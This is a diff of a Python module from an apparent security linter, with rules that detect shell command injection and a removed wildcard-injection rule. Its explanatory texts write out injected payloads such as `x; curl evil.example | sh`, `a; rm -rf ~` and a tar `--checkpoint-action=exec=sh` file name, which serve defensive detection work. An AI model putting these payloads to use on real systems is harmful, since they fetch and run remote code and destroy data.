@@ -2,28 +2,26 @@
 
 from __future__ import annotations
 
-import re
 from typing import TYPE_CHECKING
 
 import libcst as cst
 
 from whysafe.analysis.detectors import calls, nodes
 from whysafe.analysis.finding import Confidence, Rank, Severity
-from whysafe.analysis.rule import Evidence, Repair, Replace, Rule, Verdict
+from whysafe.analysis.rule import Evidence, Rule, Verdict
 from whysafe.rules.process_arguments import (
     SUBPROCESS,
     argv,
     command_argument,
     constant_texts,
     list_repair,
-    program_name,
     run_repair,
     shell_command,
     text_repair,
     uses_shell,
     words_without_shell,
 )
-from whysafe.rules.process_text import holes, is_constant, is_sanitized, shown, template
+from whysafe.rules.process_text import holes, is_constant, is_sanitized, shown
 from whysafe.semantics.calls import callees
 
 if TYPE_CHECKING:
@@ -95,10 +93,14 @@ SUBPROCESS_SHELL_TRUE = Rule(
     family="process",
     title="Dynamic command run through the shell",
     message="A command that is put together at run time is run by a shell.",
-    why="With `shell=True` the command is one text that a shell takes apart. Characters such as `;`, `|`, `$` and a line "
-    "break in an inserted value start further commands, so data turns into instructions.",
-    abuse="Somebody who chooses a file name, branch or host that ends up in the text writes `x; curl evil.example | sh` "
-    "and has that run with the rights of this program.",
+    why=(
+        "With `shell=True` the command is one text that a shell takes apart. Characters such as `;`, `|`, `$` "
+        "and a line break in an inserted value start further commands, so data turns into instructions."
+    ),
+    abuse=(
+        "Somebody who chooses a file name, branch or host that ends up in the text writes `x; curl evil.example "
+        "| sh` and has that run with the rights of this program."
+    ),
     fix="Pass a list, one element for each argument, and leave `shell=True` out. Where a shell is needed, put "
     "`shlex.quote()` around each inserted value.",
     ask="Where does each value in this command come from, and who could put a `;` or `$(...)` into it?",
@@ -114,7 +116,10 @@ SUBPROCESS_SHELL_TRUE = Rule(
         'import subprocess\n\n\ndef count(pattern):\n    subprocess.run(["/bin/sh", "-c", f"ls | grep -c {pattern}"])',
     ),
     good=(
-        'import subprocess\n\n\ndef log(branch):\n    subprocess.run(["git", "log", "--end-of-options", branch], check=True)',
+        (
+            "import subprocess\n\n\ndef log(branch):\n"
+            '    subprocess.run(["git", "log", "--end-of-options", branch], check=True)'
+        ),
         'import subprocess\n\nsubprocess.run(["git", "status"], shell=False)',
         'import subprocess\n\n\ndef count(name):\n    subprocess.run(["/bin/sh", "-c", \'wc -l "$1"\', "sh", name])',
     ),
@@ -128,7 +133,7 @@ def _runs_constant_text(call: Call) -> Answer:
     if certainty is None or command is None or not is_constant(command):
         return None
     texts = constant_texts(command)
-    if isinstance(command.node, (cst.List, cst.Tuple)) or any(isinstance(value, (list, tuple)) for value in command.constants):
+    if _is_list(command):
         message = f"`{call.name}` is given a list together with a shell: on POSIX only its first item is the command."
         return Verdict(message=message, confidence=certainty, repairs=list_repair(call))
     if texts and all(words_without_shell(text) is not None for text in texts):
@@ -137,16 +142,27 @@ def _runs_constant_text(call: Call) -> Answer:
     return Verdict(message=f"`{call.name}` has a shell run a constant command.", confidence=certainty)
 
 
+def _is_list(command: Expression) -> bool:
+    written = isinstance(command.node, (cst.List, cst.Tuple))
+    return written or any(isinstance(value, (list, tuple)) for value in command.constants)
+
+
 SUBPROCESS_SHELL_TRUE_CONSTANT = Rule(
     name="subprocess-shell-true-constant",
     family="process",
     title="Constant command run through the shell",
     message="A constant command is run by a shell.",
-    why="Nobody can put anything into a constant command, but the shell still decides by its environment what the command "
-    "means: `PATH`, aliases of the system, the current folder. And the next change of this line may insert a value.",
+    why=(
+        "Nobody can put anything into a constant command, but the shell still decides by its environment what "
+        "the command means: `PATH`, aliases of the system, the current folder. And the next change of this line "
+        "may insert a value."
+    ),
     abuse="Somebody who can set the environment or the `PATH` of this program has another program started under the "
     "expected name; the day the command takes a value, that value can bring commands along.",
-    fix="Pass a list and leave `shell=True` out. Pipes and redirections can be had with `stdout=`, `stdin=` and `pathlib`.",
+    fix=(
+        "Pass a list and leave `shell=True` out. Pipes and redirections can be had with `stdout=`, `stdin=` and "
+        "`pathlib`."
+    ),
     ask="Is the shell needed for this command, and will it stay free of values from outside?",
     cwe=(78,),
     severity=Severity.INFORMATION,
@@ -218,8 +234,11 @@ CALL_SHELL_TRUE_OTHER = Rule(
     family="process",
     title="shell=True passed to an unknown function",
     message="A function is told to use a shell.",
-    why="A function that takes `shell=True` usually hands its command to `subprocess` with a shell, which takes `;`, `|` "
-    "and `$` in it for instructions. The call looks harmless because the start of the process is out of sight.",
+    why=(
+        "A function that takes `shell=True` usually hands its command to `subprocess` with a shell, which takes "
+        "`;`, `|` and `$` in it for instructions. The call looks harmless because the start of the process is "
+        "out of sight."
+    ),
     abuse="Whoever can choose a part of the command that is passed here can append commands of their own.",
     fix="Call the function without `shell=True` and give it a list of arguments, or quote each inserted value with "
     "`shlex.quote()`.",
@@ -262,12 +281,13 @@ OS_SHELL = (
 )
 
 
-def _shell_text(call: Call) -> Expression | None:
+def shell_text(call: Call) -> Expression | None:
+    """The command of a function that always uses a shell."""
     return call.argument("command", 0) or call.argument("cmd")
 
 
 def _hands_to_shell(call: Call) -> Answer:
-    command = _shell_text(call)
+    command = shell_text(call)
     if command is None:
         if not call.open_ended:
             return None
@@ -290,9 +310,14 @@ OS_SYSTEM_SHELL = Rule(
     family="process",
     title="Command string handed to the system shell",
     message="A command is handed to the system shell as one text.",
-    why="This function has no form without a shell. The shell takes the text apart, so that `;`, `|`, `$` or a line break "
-    "in an inserted value starts further commands.",
-    abuse="A user who may name a file calls it `a; rm -rf ~` or `$(curl evil.example | sh)`, and the shell carries that out.",
+    why=(
+        "This function has no form without a shell. The shell takes the text apart, so that `;`, `|`, `$` or a "
+        "line break in an inserted value starts further commands."
+    ),
+    abuse=(
+        "A user who may name a file calls it `a; rm -rf ~` or `$(curl evil.example | sh)`, and the shell carries "
+        "that out."
+    ),
     fix="Use `subprocess.run([...], check=True)` with one list element for each argument; for the output add "
     "`capture_output=True, text=True`.",
     ask="Where does each value in this command come from, and who could put a `;` or `$(...)` into it?",
@@ -304,7 +329,10 @@ OS_SYSTEM_SHELL = Rule(
         'import os\n\n\ndef remove(name):\n    os.system("rm " + name)',
         "import os\n\n\ndef lines_of(command):\n    return os.popen(command).readlines()",
         'import subprocess\n\n\ndef size(path):\n    return subprocess.getoutput(f"/usr/bin/du -s {path}")',
-        "import os\nimport threading\n\n\ndef start(line):\n    threading.Thread(target=os.system, args=(line,)).start()",
+        (
+            "import os\nimport threading\n\n\ndef start(line):\n"
+            "    threading.Thread(target=os.system, args=(line,)).start()"
+        ),
         'import os\n\nos.system("/usr/bin/sync")',
     ),
     good=(
@@ -316,90 +344,9 @@ OS_SYSTEM_SHELL = Rule(
 )
 
 
-# --- wildcards -------------------------------------------------------------------------------------------------------
-
-_TAKES_OPTIONS = frozenset({"chmod", "chown", "rsync", "tar"})
-_NEXT_COMMAND = re.compile(r"[|;&\n]+")
-_BARE_WILDCARD = re.compile(r"(?<=\s)(?=[*?])")
-
-
-def _wildcard_program(text: str) -> str | None:
-    """The program whose arguments begin with a wildcard: such an argument can come out as an option."""
-    for part in _NEXT_COMMAND.split(text):
-        words = iter(part.split())
-        program = next((name for word in words if (name := program_name(word)) in _TAKES_OPTIONS), None)
-        for word in words if program else ():
-            if word == "--":
-                break
-            if word[0] in "*?":
-                return program
-    return None
-
-
-def _expands_wildcard(command: Expression | None, certainty: Confidence = Confidence.HIGH) -> Answer:
-    if command is None:
-        return None
-    for text in constant_texts(command) or (template(command),):
-        program = _wildcard_program(text)
-        if program is not None:
-            message = (
-                f"A file whose name begins with `-` is an option for `{program}` when the shell expands the wildcard."
-            )
-            return Verdict(message=message, confidence=certainty, repairs=_anchored(command, safe=program != "tar"))
-    return None
-
-
-def _anchored(command: Expression, *, safe: bool) -> tuple[Repair, ...]:
-    """Begin the wildcard with `./`; the names in a tar archive would begin so, too, so that it is not always the same."""
-    node = command.node
-    if not isinstance(node, cst.SimpleString):
-        return ()
-    text = _BARE_WILDCARD.sub("./", node.value)
-    return (Repair("Write `./*`, so that no file name is taken for an option", (Replace(node, text),), safe=safe),)
-
-
-def _expands_in_subprocess(call: Call) -> Answer:
-    certainty = uses_shell(call)
-    return None if certainty is None else _expands_wildcard(command_argument(call), certainty)
-
-
-def _expands_in_shell(call: Call) -> Answer:
-    return _expands_wildcard(_shell_text(call))
-
-
-SHELL_WILDCARD_INJECTION = Rule(
-    name="shell-wildcard-injection",
-    family="process",
-    title="Wildcard in a command that takes options from file names",
-    message="A file whose name begins with `-` is taken for an option when the shell expands the wildcard.",
-    why="The shell puts the names of all files in place of `*` before the program starts, and the program cannot tell a "
-    "file named `--checkpoint-action=exec=sh x.sh` from an option.",
-    abuse="Somebody who may create files in that folder makes one whose name is an option of `tar`, `chown`, `chmod` or "
-    "`rsync`: to run a program, or to copy owner and mode from a file of their choice.",
-    fix="Write `./*` instead of `*`, or put `--` before it where the program understands that.",
-    ask="Who can create files in the folder in which this command runs?",
-    cwe=(155, 78),
-    severity=Severity.WARNING,
-    aliases=("B609", "S609"),
-    detect=(calls(*SUBPROCESS, when=_expands_in_subprocess), calls(*OS_SHELL, when=_expands_in_shell)),
-    bad=(
-        'import os\n\nos.system("/bin/chown backup *")',
-        'import subprocess\n\nsubprocess.run("cd /srv/data && tar czf /backup/data.tgz *", shell=True)',
-    ),
-    good=(
-        'import pathlib\nimport shutil\n\nfor path in pathlib.Path(".").iterdir():\n    shutil.chown(path, "backup")',
-        'import subprocess\n\nsubprocess.run(["/bin/tar", "czf", "/backup/data.tgz", "-C", "/srv/data", "."])',
-    ),
-    references=(
-        "https://cwe.mitre.org/data/definitions/155.html",
-        "https://www.gnu.org/software/tar/manual/html_node/checkpoints.html",
-    ),
-)
-
 RULES: tuple[Rule, ...] = (
     SUBPROCESS_SHELL_TRUE,
     SUBPROCESS_SHELL_TRUE_CONSTANT,
     CALL_SHELL_TRUE_OTHER,
     OS_SYSTEM_SHELL,
-    SHELL_WILDCARD_INJECTION,
 )
